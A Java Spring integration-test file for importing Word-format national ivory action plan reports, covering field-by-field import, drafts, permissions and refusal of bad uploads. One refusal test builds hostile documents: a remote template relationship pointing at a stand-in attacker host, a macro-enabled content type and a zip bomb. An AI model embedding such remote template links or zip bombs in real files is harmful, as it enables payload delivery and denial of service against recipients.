@@ -1,0 +1,316 @@
+package org.niaptracker.importing;
+
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+import jakarta.persistence.EntityManager;
+import jakarta.persistence.PersistenceContext;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.niaptracker.importing.ReportDocuments.Variant;
+import org.niaptracker.test.Accounts;
+import org.niaptracker.test.PostgresTest;
+
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.jdbc.core.JdbcTemplate;
+import org.springframework.mock.web.MockMultipartFile;
+import org.springframework.security.core.userdetails.UserDetailsService;
+import org.springframework.test.web.servlet.MockMvc;
+import org.springframework.test.web.servlet.MvcResult;
+import org.springframework.transaction.annotation.Transactional;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
+
+/**
+ * Importing Word reports, on real PostgreSQL: Cambodia's SC66 report imports to the
+ * seeded SC66 report field by field (5.2 On track from Part B, flagged), and so does the
+ * app's own Word export of it; a focal point's import becomes its next draft; every bad
+ * input is refused with a message and stores nothing.
+ */
+@PostgresTest
+class ReportImportTest {
+
+	private static final String IMPORT = "/parties/KH/reports/import";
+
+	private static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+
+	@Autowired
+	private MockMvc mvc;
+
+	@Autowired
+	private JdbcTemplate jdbc;
+
+	@Autowired
+	private UserDetailsService userDetailsService;
+
+	@PersistenceContext
+	private EntityManager entityManager;
+
+	private Accounts accounts;
+
+	@BeforeEach
+	void accounts() {
+		this.accounts = new Accounts(this.userDetailsService);
+	}
+
+	/**
+	 * The done-when test: the seeded SC66 report is read, removed (in this test's
+	 * transaction, rolled back after it), and the Secretariat imports the document; the
+	 * report created is the seeded one, field by field.
+	 */
+	@Test
+	@Transactional
+	void cambodiasSc66DocumentImportsToTheSeededReport() throws Exception {
+		assertImportsToTheSeededReport(ReportDocuments.cambodiaSc66(), "cambodia-sc66.docx", true);
+	}
+
+	/** The app's own Word export of SC66 imports back to the same report. */
+	@Test
+	@Transactional
+	void theAppsOwnWordExportImportsBack() throws Exception {
+		byte[] exported = this.mvc.perform(get("/parties/KH/reports/SC66/annex.docx"))
+			.andReturn()
+			.getResponse()
+			.getContentAsByteArray();
+		assertThat(exported).isNotEmpty();
+		assertImportsToTheSeededReport(exported, "SC66-annex.docx", false);
+	}
+
+	private void assertImportsToTheSeededReport(byte[] document, String fileName, boolean flags52) throws Exception {
+		Map<String, Object> seeded = report("SC66");
+		Map<String, List<Object>> seededActions = actions("SC66");
+		this.jdbc.update("""
+				delete from reporting_period where party_id = (select id from party where code = 'KH')
+				   and meeting_id = (select id from meeting where code = 'SC66')""");
+
+		String preview = upload(Accounts.SECRETARIAT, fileName, document);
+		String page = this.mvc.perform(get(preview).with(this.accounts.as(Accounts.SECRETARIAT)))
+			.andReturn()
+			.getResponse()
+			.getContentAsString();
+		assertThat(page).contains("data-action=\"5.2\" data-rating=\"ON_TRACK\"")
+			.contains("data-action=\"4.1\" data-rating=\"SUBSTANTIALLY_ACHIEVED\"")
+			.doesNotContain("data-import=\"blockers\"");
+		if (flags52) {
+			assertThat(page).contains("data-flag=\"importing.flag.placeholderTakenFromB\"")
+				.contains("data-flag=\"importing.flag.instruction\"")
+				.contains("CATEGORY 2: [Name]");
+		}
+		MvcResult confirmed = this.mvc
+			.perform(post(preview).param("submittedOn", "2015-10-05")
+				.with(csrf())
+				.with(this.accounts.as(Accounts.SECRETARIAT)))
+			.andReturn();
+		assertThat(confirmed.getResponse().getRedirectedUrl()).isEqualTo("/parties/KH/reports/SC66/edit");
+		// This test's transaction is still open: what the import changed, to the
+		// database.
+		this.entityManager.flush();
+
+		Map<String, Object> imported = report("SC66");
+		for (String field : List.of("synopsis", "progress_to_date", "future_outlook", "prepared_by", "period_start",
+				"period_end", "language_line", "group_heading", "document_ref", "annex_ref", "plan_revision_id")) {
+			assertThat(imported.get(field)).as(field).isEqualTo(seeded.get(field));
+		}
+		assertThat(imported.get("recorded")).isEqualTo(true);
+		assertThat(actions("SC66")).isEqualTo(seededActions);
+		assertThat(this.jdbc.queryForObject("select count(*) from import_upload", Integer.class)).isZero();
+	}
+
+	@Test
+	void aFocalPointsImportBecomesItsNextDraft() throws Exception {
+		String preview = upload(Accounts.FOCAL_KH, "kh-sc67.docx",
+				ReportDocuments.cambodia("Cambodia", "SC67", Variant.WORD_LISTS, Variant.DISAGREEING_3_2));
+		String page = this.mvc.perform(get(preview).with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn()
+			.getResponse()
+			.getContentAsString();
+		assertThat(page).contains("data-flag=\"importing.flag.differs\"").doesNotContain("name=\"submittedOn\"");
+		MvcResult confirmed = this.mvc.perform(post(preview).with(csrf()).with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn();
+		assertThat(confirmed.getResponse().getRedirectedUrl()).isEqualTo("/parties/KH/reports/SC67/edit");
+		Map<String, Object> draft = report("SC67");
+		assertThat(draft.get("status")).isEqualTo("DRAFT");
+		assertThat(draft.get("recorded")).isEqualTo(false);
+		assertThat(draft.get("synopsis")).isEqualTo(report("SC66").get("synopsis"));
+		assertThat(actions("SC67")).isEqualTo(actions("SC66"));
+		String editor = this.mvc.perform(get("/parties/KH/reports/SC67/edit").with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn()
+			.getResponse()
+			.getContentAsString();
+		assertThat(editor).contains("Consultations have been held within FA");
+	}
+
+	@Test
+	void aSecondImportIsRefusedWhileADraftIsOpen() throws Exception {
+		String first = upload(Accounts.FOCAL_KH, "kh-sc67.docx", ReportDocuments.cambodia("CAMBODIA", "SC67"));
+		this.mvc.perform(post(first).with(csrf()).with(this.accounts.as(Accounts.FOCAL_KH))).andReturn();
+		int reports = count("reporting_period");
+		String second = upload(Accounts.FOCAL_KH, "kh-sc67.docx", ReportDocuments.cambodia("CAMBODIA", "SC67"));
+		MvcResult result = this.mvc.perform(post(second).with(csrf()).with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn();
+		assertThat(result.getResponse().getStatus()).isEqualTo(200);
+		assertThat(result.getResponse().getContentAsString()).contains("data-import=\"blockers\"");
+		assertThat(count("reporting_period")).isEqualTo(reports);
+	}
+
+	@Test
+	void actionsNotInThePlanAndChangedTitlesAreShownAndBlock() throws Exception {
+		String preview = upload(Accounts.FOCAL_KH, "kh.docx",
+				ReportDocuments.cambodia("CAMBODIA", "SC67", Variant.OFF_PLAN));
+		String page = this.mvc.perform(get(preview).with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn()
+			.getResponse()
+			.getContentAsString();
+		assertThat(page).contains("data-action=\"6.2\"")
+			.contains("data-flag=\"importing.flag.notInPlan\"")
+			.contains("data-flag=\"importing.flag.titleChanged\"")
+			.contains("data-import=\"blockers\"")
+			.doesNotContain("id=\"import-confirm\"");
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "empty", "pdf", "renamedPdf", "text", "docm", "zipBomb", "macros", "external", "tooLarge",
+			"noPartC", "otherParty" })
+	void badInputIsRefusedWithAMessageAndNothingIsStored(String kind) throws Exception {
+		byte[] document = ReportDocuments.cambodia("CAMBODIA", "SC67");
+		String fileName = "report.docx";
+		String key = "importing.refused." + kind;
+		byte[] bytes = switch (kind) {
+			case "empty" -> new byte[0];
+			case "pdf", "renamedPdf" -> "%PDF-1.7\n1 0 obj".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
+			case "text" -> "Party: CAMBODIA".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
+			case "docm" -> document;
+			case "zipBomb" ->
+				WordReportParserTest.withEntry(document, "word/media/padding.xml", new byte[50 * 1024 * 1024]);
+			case "macros" -> WordReportParserTest.replaceInEntry(document, "[Content_Types].xml",
+					"wordprocessingml.document.main+xml", "vnd.ms-word.document.macroEnabled.main+xml");
+			case "external" -> WordReportParserTest.replaceInEntry(document, "word/_rels/document.xml.rels",
+					"</Relationships>",
+					"<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+							+ " Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>");
+			case "tooLarge" -> new byte[(int) ReportImportService.MAX_BYTES + 1];
+			case "noPartC" -> ReportDocuments.cambodia("CAMBODIA", "SC67", Variant.NO_PART_C);
+			case "otherParty" -> ReportDocuments.cambodia("VIET NAM", "SC67");
+			default -> throw new IllegalArgumentException(kind);
+		};
+		if (kind.equals("pdf")) {
+			fileName = "report.pdf";
+			key = "importing.refused.notDocx";
+		}
+		if (kind.equals("renamedPdf")) {
+			key = "importing.refused.pdf";
+		}
+		if (kind.equals("text")) {
+			key = "importing.refused.notDocx";
+		}
+		if (kind.equals("docm")) {
+			fileName = "report.docm";
+			key = "importing.refused.macros";
+		}
+		int reports = count("reporting_period");
+		MvcResult result = this.mvc
+			.perform(multipart(IMPORT).file(new MockMultipartFile("file", fileName, DOCX, bytes))
+				.with(csrf())
+				.with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn();
+		assertThat(result.getResponse().getStatus()).as(kind).isEqualTo(200);
+		String page = result.getResponse().getContentAsString();
+		assertThat(page).contains("data-import=\"refusal\"");
+		assertThat(page).contains(englishMessage(key));
+		assertThat(count("import_upload")).isZero();
+		assertThat(count("reporting_period")).isEqualTo(reports);
+	}
+
+	@Test
+	void anotherPartysFocalPointMayNotImport() throws Exception {
+		Accounts.createOtherParty(this.jdbc);
+		assertThat(this.mvc.perform(get(IMPORT).with(this.accounts.as(Accounts.FOCAL_OTHER)))
+			.andReturn()
+			.getResponse()
+			.getStatus()).isEqualTo(403);
+		assertThat(
+				this.mvc
+					.perform(multipart(IMPORT)
+						.file(new MockMultipartFile("file", "r.docx", DOCX,
+								ReportDocuments.cambodia("CAMBODIA", "SC67")))
+						.with(csrf())
+						.with(this.accounts.as(Accounts.FOCAL_OTHER)))
+					.andReturn()
+					.getResponse()
+					.getStatus())
+			.isEqualTo(403);
+		assertThat(count("import_upload")).isZero();
+	}
+
+	@Test
+	void anUploadIsSeenOnlyByWhoUploadedIt() throws Exception {
+		String preview = upload(Accounts.FOCAL_KH, "kh.docx", ReportDocuments.cambodia("CAMBODIA", "SC67"));
+		assertThat(this.mvc.perform(get(preview).with(this.accounts.as(Accounts.SECRETARIAT)))
+			.andReturn()
+			.getResponse()
+			.getStatus()).isEqualTo(404);
+		assertThat(this.mvc.perform(get(IMPORT + "/not-a-uuid").with(this.accounts.as(Accounts.FOCAL_KH)))
+			.andReturn()
+			.getResponse()
+			.getStatus()).isEqualTo(404);
+	}
+
+	private String upload(String who, String fileName, byte[] document) throws Exception {
+		MvcResult result = this.mvc
+			.perform(multipart(IMPORT).file(new MockMultipartFile("file", fileName, DOCX, document))
+				.with(csrf())
+				.with(this.accounts.as(who)))
+			.andReturn();
+		String location = result.getResponse().getRedirectedUrl();
+		assertThat(location).as(result.getResponse().getContentAsString()).startsWith(IMPORT + "/");
+		return location;
+	}
+
+	private Map<String, Object> report(String meeting) {
+		return this.jdbc.queryForMap("""
+				select rp.* from reporting_period rp join party p on p.id = rp.party_id
+				  join meeting m on m.id = rp.meeting_id where p.code = 'KH' and m.code = ?""", meeting);
+	}
+
+	/** Each action's number: its rating code and its points. */
+	private Map<String, List<Object>> actions(String meeting) {
+		Map<String, List<Object>> actions = new LinkedHashMap<>();
+		this.jdbc.query("""
+				select a.number, pr.code, array_to_string(e.progress_points, '\n') as points
+				  from evaluation e join reporting_period rp on rp.id = e.reporting_period_id
+				  join party p on p.id = rp.party_id join meeting m on m.id = rp.meeting_id
+				  join niap_action a on a.id = e.action_id
+				  left join progress_rating pr on pr.id = e.progress_rating_id
+				 where p.code = 'KH' and m.code = ? order by a.number""", (rs) -> {
+			actions.put(rs.getString("number"), List.of(String.valueOf(rs.getString("code")), rs.getString("points")));
+		}, meeting);
+		return actions;
+	}
+
+	private int count(String table) {
+		return this.jdbc.queryForObject("select count(*) from " + table, Integer.class);
+	}
+
+	private static String englishMessage(String key) {
+		try (var in = ReportImportTest.class.getResourceAsStream("/messages/importing.properties")) {
+			java.util.Properties properties = new java.util.Properties();
+			properties.load(new java.io.InputStreamReader(in, java.nio.charset.StandardCharsets.UTF_8));
+			String message = properties.getProperty(key);
+			assertThat(message).as(key).isNotNull();
+			// The words before any argument, as the page shows them (HTML-escaped quotes
+			// aside).
+			return message.split("\\{")[0].split("[’'\"]")[0];
+		}
+		catch (java.io.IOException ex) {
+			throw new java.io.UncheckedIOException(ex);
+		}
+	}
+
+}
